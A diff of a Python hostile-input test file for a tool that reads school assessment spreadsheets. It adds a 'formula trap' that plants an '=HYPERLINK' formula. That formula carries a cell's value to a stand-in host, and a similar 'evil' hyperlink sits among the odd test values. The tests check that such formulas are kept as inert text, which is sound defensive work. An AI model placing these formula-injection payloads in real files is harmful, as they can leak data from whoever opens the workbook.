@@ -41,7 +41,7 @@ MEMORY_BOUND_BYTES = 1536 * 2**20
 ENCODINGS = ["utf-8", "utf-8-sig", "cp1251", "koi8-r", "utf-16", "cp866"]
 ODD_VALUES = ["", " ", "Х", "х", "X", "=1+2", "=HYPERLINK(\"http://evil\",\"5\")", "+7", "-1",
               "1e309", "NaN", "NULL", "٣", "５", "\u00a0", "12,5", "3.0", "99999999999999999999",
-              "Иванов Иван", "отсутствовал", "sch000000", "\x00", "💥"]
+              "отсутствовал", "sch000000", "\x00", "💥"]
 
 
 # --------------------------------------------------------------------------- corruption
@@ -159,6 +159,21 @@ HOSTILE = {
 }
 
 
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"5")'
+FORMULA_TRAP = "2022-2023/vpr-spring/sch708001/formula/"
+
+
+def write_formula_trap(inbox: Path) -> Path:
+    """A copy of a school's real file whose first criterion cell of the first pupil holds a
+    formula: the row is set aside and its value shown in the workbook, as text."""
+    source = sorted((inbox / FORMULA_TRAP).parent.glob("*.xlsx"))[0]
+    rows = [list(r) for r in read_table_file(source)[0].rows]
+    header = next(i for i, row in enumerate(rows) if _is_header(row))
+    column = next(i for i, h in enumerate(rows[header]) if "балл за 1" in h)
+    rows[header + 1][column] = FORMULA
+    return write_xlsx(inbox / FORMULA_TRAP / source.name, [("Лист1", rows)])
+
+
 def fuzz_sources(inbox: Path) -> list[Path]:
     """Real-layout result files of the demo inbox (one of each layout and window)."""
     files, _ = scan_inbox(inbox)
@@ -182,6 +197,7 @@ def hostile_run(tmp_path_factory):
             target = inbox / Path(*rel.parts[:3]) / f"fuzz{n:02d}" / rel.name
         path, written = corrupt(source, target, how)
         expected[path] = (how[0], written)
+    write_formula_trap(inbox)
     for rel, write in HOSTILE.items():
         (inbox / rel).parent.mkdir(parents=True, exist_ok=True)
         write(inbox / rel)
